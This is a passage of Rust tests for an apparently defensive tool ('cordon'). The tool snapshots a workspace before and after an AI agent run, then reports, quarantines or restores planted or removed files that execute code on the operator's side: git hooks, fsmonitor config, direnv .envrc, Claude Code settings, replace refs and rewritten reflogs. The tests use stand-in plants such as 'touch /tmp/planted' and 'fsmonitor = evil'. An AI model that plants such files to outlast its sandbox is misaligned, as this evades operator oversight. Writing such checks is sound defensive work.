    /// in place (same length, same inode: git only appends, the run need not) is reported:
    /// a reflog is compared by its digest, not its length. Pseudo-refs holding garbage
    /// (empty, short ids, a symbolic loop) are read without a panic and without a finding.
    #[test]
    fn a_reflog_rewritten_in_place_and_garbage_pseudo_refs() {
        use std::io::{Seek, Write};
        let d = tempfile::tempdir().unwrap();
        let w = std::fs::canonicalize(d.path()).unwrap();
        let roots = [w.clone()];
        git(&w, &["init", "-q"]);
        std::fs::write(w.join("a"), "a").unwrap();
        git(&w, &["add", "a"]);
        git(&w, &["commit", "-q", "-m", "a"]);
        git(&w, &["commit", "-q", "--allow-empty", "-m", "b"]);
        // The plant's commit, made before the snapshot (its objects are the operator's too).
        std::fs::write(w.join(".envrc"), "evil").unwrap();
        git(&w, &["add", ".envrc"]);
        let tree = git_out(&w, &["write-tree"]);
        git(&w, &["rm", "-q", "--cached", ".envrc"]);
        std::fs::remove_file(w.join(".envrc")).unwrap();
        let evil = git_out(&w, &["commit-tree", tree.trim(), "-m", "e"]);
        let mut before = Snapshot::take(&roots);
        before.started = before.started.map(|t| t + Duration::from_secs(60));
        // The first line's new id becomes the plant's commit, in place.
        let log = w.join(".git/logs/HEAD");
        let text = std::fs::read_to_string(&log).unwrap();
        let first = text.lines().next().unwrap();
        let old = first.split(' ').nth(1).unwrap();
        let mut f = std::fs::OpenOptions::new().write(true).open(&log).unwrap();
        f.seek(std::io::SeekFrom::Start(41)).unwrap();
        f.write_all(evil.trim().as_bytes()).unwrap();
        drop(f);
        assert_eq!(old.len(), evil.trim().len());
        assert_eq!(std::fs::read_to_string(&log).unwrap().len(), text.len());
        let after = Snapshot::take(&roots);
        let found = after.findings_since(&before);
        let staged = git_state(&found);
        assert_eq!(staged.len(), 1, "{found:?}");
        assert_eq!(staged[0].path, w.join(".envrc"));
        assert!(staged[0].why.contains("the reflog of HEAD"), "{staged:?}");

        let before = Snapshot::take(&roots);
        std::fs::write(w.join(".git/ORIG_HEAD"), "").unwrap();
        std::fs::write(w.join(".git/FETCH_HEAD"), "abc\tnot-for-merge\n\n").unwrap();
        std::fs::write(w.join(".git/MERGE_HEAD"), "ref: MERGE_HEAD\n").unwrap();
        std::fs::write(w.join(".git/REBASE_HEAD"), "ref: refs/heads/none\n").unwrap();
        let after = Snapshot::take(&roots);
        let found = after.findings_since(&before);
        let staged = git_state(&found);
        assert_eq!(staged.len(), 1, "{found:?}");
        assert!(staged[0].why.contains("could not check"), "{staged:?}");
        assert!(staged[0].why.contains("nest too deep"), "{staged:?}");
    }

    /// A `.git` file naming a git directory outside every root (planted or the operator's) is
    /// not followed: the scan reads no git state there. One naming a git directory in a root
    /// is recorded for the worktree the file is in.
    #[test]
    fn a_git_file_is_followed_only_into_a_root() {
        let outside = tempfile::tempdir().unwrap();
        let outside = std::fs::canonicalize(outside.path()).unwrap();
        git(&outside, &["init", "-q"]);
        let d = tempfile::tempdir().unwrap();
        let w = std::fs::canonicalize(d.path()).unwrap();
        let roots = [w.clone()];
        std::fs::create_dir_all(w.join("away")).unwrap();
        std::fs::write(
            w.join("away/.git"),
            format!("gitdir: {}\n", outside.join(".git").display()),
        )
        .unwrap();
        std::fs::create_dir_all(w.join("sub")).unwrap();
        git(
            &w.join("sub"),
            &["init", "-q", "--separate-git-dir", "../.sub-git"],
        );
        let s = Snapshot::take(&roots);
        let dirs: Vec<&PathBuf> = s.git.keys().collect();
        assert_eq!(dirs, [&w.join(".sub-git")], "{dirs:?}");
        assert_eq!(s.git[&w.join(".sub-git")].worktree(), w.join("sub"));
        // A root that is itself such a worktree, its git directory in another root.
        let roots = [w.join("sub"), w.join(".sub-git")];
        let s = Snapshot::take(&roots);
        let dirs: Vec<&PathBuf> = s.git.keys().collect();
        assert_eq!(dirs, [&w.join(".sub-git")], "{dirs:?}");
        assert_eq!(s.git[&w.join(".sub-git")].worktree(), w.join("sub"));
    }

    /// A surface file staged (index only) is reported; the same index rewritten without a
    /// change to a surface entry (`git add` of an ordinary file) is not; an index turned into
    /// something else is reported as not checked.
    #[test]
    fn staged_surface_file_and_an_unreadable_index() {
        let d = tempfile::tempdir().unwrap();
        let w = std::fs::canonicalize(d.path()).unwrap();
        let roots = [w.clone()];
        git(&w, &["init", "-q"]);
        std::fs::write(w.join(".envrc"), "use nix").unwrap();
        std::fs::write(w.join("a.txt"), "a").unwrap();
        git(&w, &["add", "."]);
        git(&w, &["commit", "-q", "-m", "a"]);
        let before = Snapshot::take(&roots);
        std::fs::write(w.join("a.txt"), "b").unwrap();
        git(&w, &["add", "a.txt"]);
        let after = Snapshot::take(&roots);
        assert!(git_state(&after.findings_since(&before)).is_empty());
        let before = after;
        std::fs::create_dir(w.join(".husky")).unwrap();
        std::fs::write(w.join(".husky/pre-commit"), "touch /tmp/x").unwrap();
        git(&w, &["add", ".husky/pre-commit"]);
        std::fs::remove_dir_all(w.join(".husky")).unwrap();
        let after = Snapshot::take(&roots);
        let found = after.findings_since(&before);
        let staged = git_state(&found);
        assert_eq!(staged.len(), 1, "{found:?}");
        assert_eq!(staged[0].path, w.join(".husky/pre-commit"));
        assert!(staged[0].why.contains("the index"), "{staged:?}");
        // A replace ref: git reads HEAD through it (`git reset --hard` writes out the
        // replacement's tree); cordon does not follow one, and says so.
        let before = after;
        std::fs::write(w.join("b.txt"), "b").unwrap();
        git(&w, &["add", "b.txt"]);
        let tree = git_out(&w, &["write-tree"]);
        let commit = git_out(&w, &["commit-tree", tree.trim(), "-m", "r"]);
        git(&w, &["rm", "-q", "--cached", "b.txt"]);
        git(&w, &["replace", "HEAD", commit.trim()]);
        let after = Snapshot::take(&roots);
        let found = after.findings_since(&before);
        let staged = git_state(&found);
        assert_eq!(staged.len(), 1, "{found:?}");
        assert!(staged[0].why.contains("replace refs"), "{staged:?}");
        let before = after;
        std::fs::write(w.join(".git/index"), "not an index").unwrap();
        let after = Snapshot::take(&roots);
        let found = after.findings_since(&before);
        let staged = git_state(&found);
        assert_eq!(staged.len(), 1, "{found:?}");
        assert!(staged[0].why.contains("could not check"), "{staged:?}");
    }

    /// A run that makes a repository's first commit of files that were already there
    /// (`git init && git add . && git commit`, a settings file and an executable hook among
    /// them) leaves nothing a checkout would change: no finding, in both hash formats. A
    /// surface file the run wrote and staged is reported twice (moved aside from the worktree,
    /// left in the index: the operator's `git checkout` would write the plant back).
    #[test]
    fn a_first_commit_of_files_already_there_is_no_finding_but_a_planted_one_is() {
        use std::os::unix::fs::PermissionsExt;
        for format in ["sha1", "sha256"] {
            let d = tempfile::tempdir().unwrap();
            let w = std::fs::canonicalize(d.path()).unwrap();
            let roots = [w.clone()];
            std::fs::create_dir_all(w.join(".vscode")).unwrap();
            std::fs::write(w.join(".vscode/settings.json"), "{}").unwrap();
            std::fs::create_dir_all(w.join(".husky")).unwrap();
            std::fs::write(w.join(".husky/pre-commit"), "npm test\n").unwrap();
            std::fs::set_permissions(
                w.join(".husky/pre-commit"),
                std::fs::Permissions::from_mode(0o755),
            )
            .unwrap();
            std::os::unix::fs::symlink("settings.json", w.join(".vscode/tasks.json")).unwrap();
            std::fs::write(w.join("a.txt"), "a").unwrap();
            git(&w, &["init", "-q", &format!("--object-format={format}")]);
            let before = Snapshot::take(&roots);
            git(&w, &["add", "."]);
            git(&w, &["commit", "-q", "-m", "first"]);
            let after = Snapshot::take(&roots);
            let found = after.findings_since(&before);
            assert!(git_state(&found).is_empty(), "{format}: {found:?}");

            let before = after;
            std::fs::write(w.join(".envrc"), "touch /tmp/planted").unwrap();
            git(&w, &["add", ".envrc"]);
            let after = Snapshot::take(&roots);
            let found = after.findings_since(&before);
            let staged = git_state(&found);
            assert_eq!(staged.len(), 1, "{format}: {found:?}");
            assert_eq!(staged[0].path, w.join(".envrc"));
            assert!(
                found
                    .iter()
                    .any(|f| f.what == What::ToolFile && f.path == w.join(".envrc")),
                "{format}: {found:?}"
            );
            assert!(!w.join(".envrc").exists(), "{format}: moved aside");
        }
    }

    /// Index files git itself wrote, in each version and both hash formats.
    #[test]
    fn gitlinks_in_every_index_version() {
        for format in ["sha1", "sha256"] {
            for version in ["2", "3", "4"] {
                let d = tempfile::tempdir().unwrap();
                let w = d.path();
                git(w, &["init", "-q", &format!("--object-format={format}")]);
                for f in ["a.txt", "dir/b.txt", "dir/c.txt", "zz/long-name-here.txt"] {
                    std::fs::create_dir_all(w.join(f).parent().unwrap()).unwrap();
                    std::fs::write(w.join(f), f).unwrap();
                }
                git(w, &["add", "."]);
                git(w, &["commit", "-q", "-m", "x"]);
                let head = String::from_utf8(
                    Command::new("git")
                        .args(["rev-parse", "HEAD"])
                        .current_dir(w)
                        .output()
                        .unwrap()
                        .stdout,
                )
                .unwrap();
                let head = head.trim();
                for link in ["dir/sub", "sub", "zz/sub2"] {
                    git(
                        w,
                        &[
                            "update-index",
                            "--add",
                            "--cacheinfo",
                            &format!("160000,{head},{link}"),
                        ],
                    );
                }
                // An extended flag (intent-to-add) makes a version-3 entry.
                std::fs::write(w.join("new.txt"), "n").unwrap();
                git(w, &["add", "-N", "new.txt"]);
                git(w, &["update-index", "--index-version", version]);
                let bytes = std::fs::read(w.join(".git/index")).unwrap();
                let mut links = gitlinks(&bytes).unwrap_or_else(|| panic!("{format} v{version}"));
                links.sort();
                assert_eq!(
                    links,
                    vec![b"dir/sub".to_vec(), b"sub".to_vec(), b"zz/sub2".to_vec()],
                    "{format} v{version}"
                );
            }
        }
    }

    /// A gitlink moved into a shared index (split index), or behind an index that is a
    /// symlink, is still seen.
    #[test]
    fn gitlinks_in_a_split_or_linked_index() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        git(&root, &["commit", "-q", "--allow-empty", "-m", "x"]);
        let before = Snapshot::take(std::slice::from_ref(&root));
        let head = Command::new("git")
            .args(["rev-parse", "HEAD"])
            .current_dir(&root)
            .output()
            .unwrap()
            .stdout;
        let link = format!("160000,{},split", String::from_utf8(head).unwrap().trim());
        git(&root, &["update-index", "--add", "--cacheinfo", &link]);
        git(&root, &["update-index", "--split-index"]);
        assert!(std::fs::read_dir(root.join(".git")).unwrap().any(|e| e
            .unwrap()
            .file_name()
            .to_string_lossy()
            .starts_with("sharedindex.")));
        let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
        assert!(
            found
                .iter()
                .any(|f| f.what == What::Gitlink && f.path == root.join("split")),
            "{found:#?}"
        );

        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        git(&root, &["commit", "-q", "--allow-empty", "-m", "x"]);
        let before = Snapshot::take(std::slice::from_ref(&root));
        let head = Command::new("git")
            .args(["rev-parse", "HEAD"])
            .current_dir(&root)
            .output()
            .unwrap()
            .stdout;
        let link = format!("160000,{},linked", String::from_utf8(head).unwrap().trim());
        git(&root, &["update-index", "--add", "--cacheinfo", &link]);
        std::fs::rename(root.join(".git/index"), root.join("elsewhere")).unwrap();
        std::os::unix::fs::symlink(root.join("elsewhere"), root.join(".git/index")).unwrap();
        let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
        assert!(
            found
                .iter()
                .any(|f| f.what == What::Gitlink && f.path == root.join("linked")),
            "{found:#?}"
        );
    }

    /// The walk skips plain files by name alone: every watched name, and every settings
    /// directory's name (a link by that name is one), must pass.
    #[test]
    fn every_watched_name_is_seen_by_the_walk() {
        for (entry, _) in TOOL_FILES.iter().chain(TOOL_DIRS) {
            let first = entry.split('/').next().unwrap();
            assert!(watched(first.as_bytes()), "{entry}");
        }
        assert!(!watched(b"main.rs"));
        assert!(!watched(b"config.toml"));
    }

    #[test]
    fn not_an_index() {
        assert_eq!(gitlinks(b""), None);
        assert_eq!(gitlinks(b"DIRC\0\0\0\x05\0\0\0\0"), None);
        let mut truncated = b"DIRC\0\0\0\x02\0\0\0\x01".to_vec();
        truncated.extend_from_slice(&[0; 30]);
        assert_eq!(gitlinks(&truncated), None);
    }

    /// The hooks directory named through an include (`include.path = ../gitconfig.shared`,
    /// which sets `core.hooksPath = tools/hooks`; `[core]hooksPath=x` on the header's line is
    /// git's too) and the included file itself are watched: read as git reads them, by the one
    /// reader the file tools use (`surface::git_config`).
    #[test]
    fn hooks_named_through_an_include_and_the_included_file_are_watched() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        git(&root, &["config", "include.path", "../gitconfig.shared"]);
        std::fs::write(
            root.join("gitconfig.shared"),
            "[core]hooksPath=tools/hooks\n",
        )
        .unwrap();
        std::fs::create_dir_all(root.join("tools/hooks")).unwrap();
        let before = Snapshot::take(std::slice::from_ref(&root));
        std::fs::write(root.join("tools/hooks/pre-commit"), "#!/bin/sh\n").unwrap();
        std::fs::write(
            root.join("gitconfig.shared"),
            "[core]hooksPath=tools/hooks\n\tfsmonitor = evil\n",
        )
        .unwrap();
        let after = Snapshot::take(std::slice::from_ref(&root));
        let paths: Vec<_> = after
            .findings_since(&before)
            .iter()
            .map(|f| f.path.clone())
            .collect();
        assert_eq!(
            paths,
            vec![
                root.join("gitconfig.shared"),
                root.join("tools/hooks/pre-commit"),
            ]
        );
    }

    /// On a file system that ignores case (macOS, an ext4 casefold directory) `.ENVRC` is
    /// direnv's `.envrc` and `.Claude/settings.json` Claude Code's settings: names are compared
    /// as such a file system folds them (`surface::folded`), the plants moved aside by the
    /// names on disk. (This kernel cannot mount a casefold file system: the names are made
    /// apart here, which only makes the test stricter.)
    #[test]
    fn names_that_fold_to_the_surface_are_watched() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        std::fs::create_dir_all(root.join(".Claude")).unwrap();
        let before = Snapshot::take(std::slice::from_ref(&root));
        for f in [
            ".ENVRC",
            ".Claude/settings.json",
            "Mise.toml",
            ".env\u{200b}rc",
        ] {
            std::fs::write(root.join(f), "x").unwrap();
        }
        let after = Snapshot::take(std::slice::from_ref(&root));
        let mut paths: Vec<_> = after
            .findings_since(&before)
            .iter()
            .map(|f| f.path.clone())
            .collect();
        paths.sort();
        let mut want: Vec<_> = [
            ".Claude/settings.json",
            ".ENVRC",
            ".env\u{200b}rc",
            "Mise.toml",
        ]
        .iter()
        .map(|f| root.join(f))
        .collect();
        want.sort();
        assert_eq!(paths, want);
        assert!(!root.join(".ENVRC").exists());
    }

    #[test]
    fn a_new_git_dir_is_moved_aside_and_a_changed_config_restored() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        std::fs::write(root.join(".envrc"), "old").unwrap();
        // A mode the umask would narrow, and (as root) another owner: both come back.
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(
            root.join(".git/config"),
            std::fs::Permissions::from_mode(0o664),
        )
        .unwrap();
        if running_as_root() {
            std::os::unix::fs::chown(root.join(".git/config"), Some(12345), Some(12346)).unwrap();
        }
        let owner = std::fs::metadata(root.join(".git/config")).unwrap();
        let before = Snapshot::take(std::slice::from_ref(&root));
        let config = std::fs::read(root.join(".git/config")).unwrap();

        std::fs::create_dir_all(root.join("sub/.git")).unwrap();
        std::fs::write(root.join("sub/.git/config"), "x").unwrap();
        std::fs::write(root.join(".git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
        std::fs::write(root.join(".git/commondir"), "/elsewhere").unwrap();
        std::fs::write(root.join(".envrc"), "new").unwrap();
        std::fs::write(root.join("plain.txt"), "not watched").unwrap();

        let after = Snapshot::take(std::slice::from_ref(&root));
        let found = after.findings_since(&before);
        let paths: Vec<_> = found.iter().map(|f| f.path.clone()).collect();
        assert_eq!(
            paths,
            vec![
                root.join(".envrc"),
                root.join(".git/commondir"),
                root.join(".git/config"),
                root.join("sub/.git"),
            ],
            "{found:#?}"
        );
        assert_eq!(std::fs::read(root.join(".git/config")).unwrap(), config);
        let restored = std::fs::metadata(root.join(".git/config")).unwrap();
        assert_eq!(restored.mode() & 0o7777, 0o664);
        assert_eq!((restored.uid(), restored.gid()), (owner.uid(), owner.gid()));
        assert_eq!(
            std::fs::read(root.join(".git/.config.cordon-quarantine")).unwrap(),
            b"[core]\n\tfsmonitor = evil\n"
        );
        assert!(!root.join(".git/commondir").exists());
        assert!(root.join("sub/.git.cordon-quarantine/config").exists());
        assert_eq!(std::fs::read(root.join(".envrc")).unwrap(), b"old");
        // Nothing new since: nothing to report.
        let again = Snapshot::take(std::slice::from_ref(&root));
        assert_eq!(
            Snapshot::take(std::slice::from_ref(&root)).findings_since(&again),
            vec![]
        );
    }

    /// The walk stops at its limit, but the root's own repository is always recorded, and the
    /// repository a new gitlink points at is found beyond the limit.
    #[test]
    fn a_gitlinked_repository_beyond_the_walks_limit_is_still_found() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        git(&root, &["commit", "-q", "--allow-empty", "-m", "x"]);
        for i in 0..50 {
            std::fs::write(root.join(format!("f{i}")), "").unwrap();
        }
        let before = Snapshot::take_within(std::slice::from_ref(&root), 5);
        assert!(before.truncated);
        git(&root, &["init", "-q", "zz-sub"]);
        let head = Command::new("git")
            .args(["rev-parse", "HEAD"])
            .current_dir(&root)
            .output()
            .unwrap()
            .stdout;
        let head = String::from_utf8(head).unwrap();
        git(
            &root,
            &[
                "update-index",
                "--add",
                "--cacheinfo",
                &format!("160000,{},zz-sub", head.trim()),
            ],
        );
        std::fs::write(root.join(".git/commondir"), "/x").unwrap();
        let after = Snapshot::take_within(std::slice::from_ref(&root), 5);
        assert!(!after.seen.contains_key(&root.join("zz-sub/.git")));
        let found = after.findings_since(&before);
        let paths: Vec<_> = found.iter().map(|f| f.path.clone()).collect();
        assert!(paths.contains(&root.join(".git/commondir")), "{found:#?}");
        assert!(paths.contains(&root.join("zz-sub/.git")), "{found:#?}");
        assert!(paths.contains(&root.join("zz-sub")), "{found:#?}");
        assert!(root.join("zz-sub/.git.cordon-quarantine").is_dir());
    }

    /// Listings of directories unchanged since a settled snapshot are reused; a name created
    /// in one changes its ctime, so it is read again, and a watched file changed in place in
    /// an unchanged directory is still seen.
    #[test]
    fn unchanged_directories_are_not_read_again_but_changes_are_seen() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        for i in 0..20 {
            std::fs::create_dir_all(root.join(format!("d{i}/e"))).unwrap();
        }
        std::fs::write(root.join("d3/.envrc"), "old").unwrap();
        let mut before = Snapshot::take(std::slice::from_ref(&root));
        assert_eq!(before.listed, 41);
        // Pretend the snapshot was taken later, so that every directory counts as settled
        // (the test cannot make a ctime older).
        before.started = before.started.map(|t| t + Duration::from_secs(60));
        let again = Snapshot::take_with(std::slice::from_ref(&root), MAX_ENTRIES, Some(&before));
        assert_eq!(again.listed, 0);
        assert!(again.findings_since(&before).is_empty());

        std::fs::write(root.join("d7/e/.envrc"), "new").unwrap();
        std::fs::write(root.join("d3/.envrc"), "changed").unwrap();
        let after = Snapshot::take_with(std::slice::from_ref(&root), MAX_ENTRIES, Some(&before));
        assert_eq!(after.listed, 1, "only d7/e changed");
        let paths: Vec<_> = after
            .findings_since(&before)
            .into_iter()
            .map(|f| f.path)
            .collect();
        assert_eq!(
            paths,
            vec![root.join("d3/.envrc"), root.join("d7/e/.envrc")]
        );
    }

    /// Consistency by construction (round 9, redsurf22): every entry of the surface list,
    /// planted where each layer looks for it — at a root's top, in a subdirectory, in a
    /// nested repository, a bare one, a linked worktree's and a submodule's git directory — is
    /// on the file tools' surface (`surface::classify`, which `cordon check`, MCP and every
    /// hook host's Write/Edit decide from) and found by the scan, both when it appears and
    /// when the operator had it and the run removes it. (The kernel profile takes
    /// `GIT_CONFIG_SURFACE` itself, the same list: `profile::GIT_CONFIG_SURFACE`.)
    #[test]
    fn every_entry_of_the_surface_is_seen_by_the_file_tools_and_the_scan() {
        use cordon_policy::surface::{classify, looks_like_git_dir, GIT_CONFIG, TOOL_SUFFIXES};
        assert_eq!(GIT_CONFIG_SURFACE, GIT_CONFIG);
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        std::fs::create_dir(root.join("sub")).unwrap();
        git(&root.join("sub"), &["init", "-q"]);
        git(&root, &["init", "-q", "--bare", "b.git"]);
        // A linked worktree's and a submodule's git directory: `HEAD` and `commondir`.
        for gd in [".git/worktrees/w", ".git/modules/m"] {
            std::fs::create_dir_all(root.join(gd)).unwrap();
            std::fs::write(root.join(gd).join("HEAD"), "ref: refs/heads/main\n").unwrap();
            std::fs::write(root.join(gd).join("commondir"), "../..\n").unwrap();
        }
        let mut plants: Vec<String> = Vec::new();
        for (entry, _) in TOOL_FILES {
            plants.push(entry.to_string());
            plants.push(format!("d/e/{entry}"));
            // As a file system that ignores case opens it for the tool (`.RPROFILE`,
            // `.VSCODE/tasks.json`: the walk names the rest as the list does, which such a
            // file system finds whatever its case on disk).
            let (first, rest) = entry
                .split_once('/')
                .map_or((*entry, None), |(f, r)| (f, Some(r)));
            let upper = first.to_uppercase();
            plants.push(match rest {
                Some(rest) => format!("u/{upper}/{rest}"),
                None => format!("u/{upper}"),
            });
        }
        for (entry, _) in TOOL_DIRS {
            plants.push(format!("{entry}/x"));
            plants.push(format!("d/e/{entry}/x"));
        }
        for (suffix, _) in TOOL_SUFFIXES {
            plants.push(format!("d/p{suffix}"));
        }
        for (entry, _) in GIT_CONFIG {
            // A directory of the list gets a file in it.
            let file = match *entry {
                "hooks" | "info" | "branches" | "remotes" => format!("{entry}/x"),
                "modules" => "modules/n/config".into(),
                "worktrees" => "worktrees/v/config.worktree".into(),
                e => e.into(),
            };
            for gd in [
                ".git",
                "sub/.git",
                "b.git",
                ".git/worktrees/w",
                ".git/modules/m",
            ] {
                // (`modules/` and `worktrees/` of the two nested git directories themselves
                // hold the plant's own repository; one level is enough there.)
                plants.push(format!("{gd}/{file}"));
            }
        }
        // As the file tools read a path: as written and folded (`files.rs`'s `on_surface`).
        let rel_on_surface = |rel: &str| {
            let rel = Path::new(rel);
            [Some(rel.to_path_buf()), cordon_policy::surface::folded(rel)]
                .into_iter()
                .flatten()
                .any(|rel| classify(&rel, &|dir| looks_like_git_dir(&root.join(dir))).is_some())
        };
        let missed: Vec<&String> = plants.iter().filter(|p| !rel_on_surface(p)).collect();
        assert!(
            missed.is_empty(),
            "not on the file tools' surface: {missed:#?}"
        );

        let reported = |found: &[Finding], p: &str| {
            let path = root.join(p);
            found.iter().any(|f| path.starts_with(&f.path))
        };
        let plant = |p: &str| {
            let path = root.join(p);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            // (A name an earlier plant made a directory of stays one.)
            if !path.is_dir() {
                std::fs::write(&path, "x").unwrap();
            }
        };
        // Each one alone: a finding for one must not stand for another.
        for p in &plants {
            let before = Snapshot::take(std::slice::from_ref(&root));
            plant(p);
            let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
            assert!(reported(&found, p), "{p} appeared unseen: {found:#?}");
            // What the scan moved aside is gone; what it restored is the earlier content.
            for f in &found {
                if let Handling::Quarantined(to) = &f.handling {
                    let _ = std::fs::rename(to, &f.path);
                }
            }
            // The operator's now, removed by the run.
            let before = Snapshot::take(std::slice::from_ref(&root));
            let path = root.join(p);
            if path.is_file() {
                std::fs::remove_file(&path).unwrap();
                let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
                assert!(
                    found
                        .iter()
                        .any(|f| f.change == Change::Removed && path.starts_with(&f.path)),
                    "{p} removed unseen: {found:#?}"
                );
                assert!(path.exists(), "{p} not written back: {found:#?}");
            }
        }
    }

    /// Round 10 (redsurf23), by construction: a writable root at each directory on the way to
    /// an entry of the surface (`.claude` of `.claude/settings.json`, `.config` and
    /// `.config/mise` of `.config/mise/config.toml`, each of `TOOL_DIRS` itself, a `.git`, its
    /// `hooks`, a bare repository) holds what the names above it make of the surface: the scan
    /// reports a plant of the rest of each entry (`surface::within_root`), and the file tools'
    /// classification of the whole path (`files.rs`'s `above_root`) finds it. Before, both
    /// took `settings.json` in a root `.claude` for a plain file.
    #[test]
    fn a_root_below_each_name_of_the_surface_sees_the_rest() {
        use cordon_policy::surface::{classify, folded, looks_like_git_dir};
        let d = tempfile::tempdir().unwrap();
        let base = d.path().canonicalize().unwrap();
        // (root, a plant below it)
        let mut cases: Vec<(PathBuf, PathBuf)> = Vec::new();
        let entries = TOOL_FILES
            .iter()
            .map(|(e, _)| (*e, false))
            .chain(TOOL_DIRS.iter().map(|(e, _)| (*e, true)));
        for (i, (entry, dir)) in entries.enumerate() {
            let parts: Vec<&str> = entry.split('/').collect();
            let last = if dir { parts.len() } else { parts.len() - 1 };
            for k in 1..=last {
                let root = base.join(format!("t{i}")).join(parts[..k].join("/"));
                let mut plant: PathBuf = parts[k..].iter().collect();
                if dir {
                    plant.push("x");
                }
                cases.push((root, plant));
            }
        }
        git(&base, &["init", "-q", "g"]);
        git(&base, &["init", "-q", "h"]);
        git(&base, &["init", "-q", "--bare", "b.git"]);
        for (root, plant) in [
            ("g/.git", "hooks/x"),
            ("h/.git/hooks", "x"),
            ("b.git", "hooks/x"),
        ] {
            cases.push((base.join(root), plant.into()));
        }
        for (root, _) in &cases {
            std::fs::create_dir_all(root).unwrap();
        }
        let mut roots: Vec<PathBuf> = cases.iter().map(|(r, _)| r.clone()).collect();
        roots.sort();
        roots.dedup();
        // (Roots one inside another, `t7/.config` and `t7/.config/mise`: each walked as its own.)
        let before = Snapshot::take(&roots);
        for (root, plant) in &cases {
            let p = root.join(plant);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            if !p.exists() {
                std::fs::write(&p, "x").unwrap();
            }
        }
        let found = Snapshot::take(&roots).findings_since(&before);
        let slash = Path::new("/");
        let missed: Vec<String> = cases
            .iter()
            .filter_map(|(root, plant)| {
                let p = root.join(plant);
                let scan = found.iter().any(|f| p.starts_with(&f.path));
                let rel = p.strip_prefix(slash).unwrap();
                let tools = [Some(rel.to_path_buf()), folded(rel)]
                    .into_iter()
                    .flatten()
                    .any(|rel| classify(&rel, &|d| looks_like_git_dir(&slash.join(d))).is_some());
                (!scan || !tools)
                    .then(|| format!("{} (scan {scan}, file tools {tools})", p.display()))
            })
            .collect();
        assert!(missed.is_empty(), "{missed:#?}");
    }

    /// Round 9 (redsurf22): a surface file the run removed was not reported at all — a
    /// secret scanner's `pre-commit`, cordon's own hook in `.claude/settings.json`. Each is
    /// reported, and written back where its content is known (with its mode and, as root, its
    /// owner); what cannot be is said, never silently dropped.
    #[test]
    fn what_the_run_removed_is_reported_and_written_back() {
        use std::os::unix::fs::PermissionsExt;
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        std::fs::create_dir(root.join("sub")).unwrap();
        git(&root.join("sub"), &["init", "-q"]);
        std::fs::write(root.join(".envrc"), "export A=1\n").unwrap();
        std::fs::create_dir_all(root.join("d/.claude")).unwrap();
        std::fs::write(root.join("d/.claude/settings.json"), "{\"hooks\":1}").unwrap();
        std::fs::create_dir_all(root.join("node_modules/pkg")).unwrap();
        std::fs::write(root.join("node_modules/pkg/.npmrc"), "x").unwrap();
        let hook = root.join(".git/hooks/pre-commit");
        std::fs::write(&hook, "#!/bin/sh\nexit 1\n").unwrap();
        std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
        if running_as_root() {
            std::os::unix::fs::chown(&hook, Some(12345), Some(12346)).unwrap();
        }
        std::os::unix::fs::symlink("../../scan.sh", root.join(".git/hooks/pre-push")).unwrap();
        std::fs::write(root.join(".git/hooks/post-merge"), vec![b'#'; 70 * 1024]).unwrap();
        std::fs::create_dir_all(root.join(".git/rebase-merge")).unwrap();
        std::fs::write(
            root.join(".git/rebase-merge/git-rebase-todo"),
            "exec make test\n",
        )
        .unwrap();
        let before = Snapshot::take(std::slice::from_ref(&root));

        std::fs::remove_file(root.join(".envrc")).unwrap();
        std::fs::remove_dir_all(root.join("d/.claude")).unwrap();
        std::fs::remove_file(&hook).unwrap();
        std::fs::remove_file(root.join(".git/hooks/pre-push")).unwrap();
        std::fs::remove_file(root.join(".git/hooks/post-merge")).unwrap();
        std::fs::remove_dir_all(root.join(".git/rebase-merge")).unwrap();
        std::fs::remove_dir_all(root.join("sub/.git")).unwrap();
        std::fs::remove_dir_all(root.join("node_modules")).unwrap();

        let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
        let got: Vec<_> = found
            .iter()
            .map(|f| (f.path.clone(), f.change, f.handling == Handling::Recreated))
            .collect();
        let removed = |p: &str, back| (root.join(p), Change::Removed, back);
        assert_eq!(
            got,
            vec![
                removed(".envrc", true),
                removed(".git/hooks/post-merge", false),
                removed(".git/hooks/pre-commit", true),
                removed(".git/hooks/pre-push", false),
                removed("d/.claude/settings.json", true),
                removed("node_modules/pkg/.npmrc", false),
                removed("sub/.git", false),
            ],
            "{found:#?}"
        );
        for f in &found {
            assert!(f.message().contains("the run removed"), "{}", f.message());
        }
        let said = |p: &str| {
            found
                .iter()
                .find(|f| f.path == root.join(p))
                .unwrap()
                .message()
        };
        assert!(said(".git/hooks/pre-push").contains("../../scan.sh"));
        assert!(said(".git/hooks/post-merge").contains("NOT restored"));
        assert!(said("sub/.git").contains("does not rebuild a repository"));
        // A tree the run removed whole is not made again for a file in it.
        assert!(said("node_modules/pkg/.npmrc").contains("gone too"));
        assert!(!root.join("node_modules").exists());
        assert_eq!(std::fs::read(root.join(".envrc")).unwrap(), b"export A=1\n");
        assert_eq!(
            std::fs::read(root.join("d/.claude/settings.json")).unwrap(),
            b"{\"hooks\":1}"
        );
        // (Its directory made again with the mode of the one it is in.)
        let claude = std::fs::metadata(root.join("d/.claude")).unwrap();
